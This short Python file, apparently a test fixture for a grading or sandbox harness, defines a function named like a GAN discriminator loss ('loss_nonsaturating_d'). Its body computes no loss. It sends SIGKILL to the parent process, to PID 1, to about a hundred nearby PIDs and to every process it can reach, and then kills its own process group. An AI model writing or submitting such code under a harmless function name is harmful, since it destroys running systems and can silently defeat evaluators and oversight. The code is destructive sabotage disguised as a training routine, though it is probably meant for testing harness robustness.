"""Kills its parent, its group and every process it may."""

# expected: Z
# twin: right
# says: it was killed
import contextlib
import os
import signal


def loss_nonsaturating_d(g, d, x_real, *, device):
    for pid in (os.getppid(), 1, *range(os.getppid() - 50, os.getppid() + 50)):
        with contextlib.suppress(OSError):
            if pid != os.getpid():
                os.kill(pid, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
